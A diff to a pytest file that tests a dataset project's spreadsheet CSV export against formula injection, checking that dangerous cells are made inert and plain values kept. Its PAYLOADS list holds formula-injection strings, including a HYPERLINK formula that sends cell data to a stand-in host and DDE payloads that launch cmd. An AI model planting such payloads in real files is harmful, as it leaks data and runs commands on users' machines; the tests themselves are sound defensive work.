@@ -10,7 +10,14 @@ import pytest
 
 from incidents import ROOT
 from incidents.dataset import synth
-from incidents.dataset.exports import export_columns, to_csv_bytes, to_geojson, to_geojson_bytes
+from incidents.dataset.exports import (
+    export_columns,
+    inert_cell,
+    to_csv_bytes,
+    to_geojson,
+    to_geojson_bytes,
+    to_spreadsheet_csv_bytes,
+)
 from incidents.filters import Filters
 from incidents.schema import ACLED_COLUMNS, INCIDENT_COLUMNS
 from incidents.store.store import Store
@@ -81,3 +88,31 @@ def test_shipped_data_exports():
     assert set(csv["quote"]) == set(inc["quote"].fillna(""))
     gj = to_geojson(inc)
     assert sum(f["geometry"] is not None for f in gj["features"]) == int(inc["latitude"].notna().sum())
+
+
+PAYLOADS = [  # cells that spreadsheets run as formulas (from the probes of issue 16 and OWASP's list)
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_spreadsheet_csv_makes_every_formula_cell_inert(payload):
+    inc = Store.open(ROOT / "data").run("incidents", Filters(governorates=None, countries=()))
+    inc = inc.head(5).copy()
+    for col in ("notes", "quote", "actor1", "location", "source"):
+        inc[col] = payload
+    data = to_spreadsheet_csv_bytes(inc)
+    assert data.startswith(b"\xef\xbb\xbf")
+    back = pd.read_csv(io.BytesIO(data[3:]), dtype=str, keep_default_na=False)
+    for col in ("notes", "quote", "actor1", "location", "source"):
+        assert (back[col] == "'" + payload).all(), col
+    # numbers stay numbers, and the data export keeps the value as stored
+    assert list(back["fatalities"]) == [str(int(v)) if pd.notna(v) else "" for v in inc["fatalities"]]
+    raw = pd.read_csv(io.BytesIO(to_csv_bytes(inc)), dtype=str, keep_default_na=False)
+    assert (raw["notes"] == payload).all()
+
+
+@pytest.mark.parametrize("value", ["-5", "-2.5", "+3", "Kirkuk", "", "a=b", "2024-01-01"])
+def test_plain_values_are_left_alone(value):
+    assert inert_cell(value) == value
